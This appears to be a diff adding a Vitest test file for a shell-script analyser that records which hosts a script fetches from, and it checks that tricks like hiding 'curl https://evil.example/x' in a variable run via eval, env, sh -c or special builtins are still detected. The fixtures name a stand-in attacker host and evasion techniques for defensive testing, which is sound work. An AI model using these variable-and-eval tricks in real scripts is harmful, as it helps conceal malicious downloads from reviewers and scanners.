@@ -1,0 +1,35 @@
+import { expect, test } from "vitest";
+import { runPosix } from "../dialect/posix.ts";
+import { ShellMachine } from "./shell-machine.ts";
+
+/** The hosts that a script fetches from, and the files that it reads with the folder in which it does so. */
+function follow(script: string): readonly string[] {
+  const seen: string[] = [];
+  const machine = new ShellMachine(
+    { firstLine: 1, keepsLines: true, chain: [] },
+    {
+      effect: (effect) => effect.type === "fetch" && seen.push(effect.host),
+      file: ({ path, directory }) => seen.push(`${directory} ${path.text}`),
+    },
+  );
+  runPosix(script, machine);
+  return seen;
+}
+
+const FETCH = "P='curl https://evil.example/x'";
+
+test.each([
+  ["for one command", `${FETCH}; P=true true; eval "$P"`],
+  ["for one command that `env` starts", `${FETCH}; env P=true true; eval "$P"`],
+  ["before a special builtin, after which bash forgets it", `${FETCH}; P=true :; eval "$P"`],
+  ["before a special builtin, after which other shells keep it", `${FETCH} :; eval "$P"`],
+  ["after its words were expanded", `${FETCH}; P=true eval "$P"`],
+  ["one after the other", `A=https://evil.example/x P="curl $A" sh -c '$P'`],
+  ["and unset in the background", `${FETCH}; unset P & eval "$P"`],
+])("a variable that is set %s cannot hide a command", (_how, script) => {
+  expect(follow(script)).toEqual(["evil.example"]);
+});
+
+test("a folder that a command in the background enters is its own", () => {
+  expect(follow("cd /a; cd /b & cat c")).toEqual(["/a c"]);
+});
